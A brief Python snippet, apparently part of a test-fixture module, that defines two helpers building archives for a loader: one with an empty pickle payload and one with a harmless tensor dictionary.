def a_pickle_of_nothing(folder: Path) -> Path:
    """A pickle that ends before it has begun."""
    return archive(folder, b"")


def innocent(folder: Path) -> Path:
    """What all of these pretend to be; read by everything."""
    return archive(folder, {"x": tensor()})
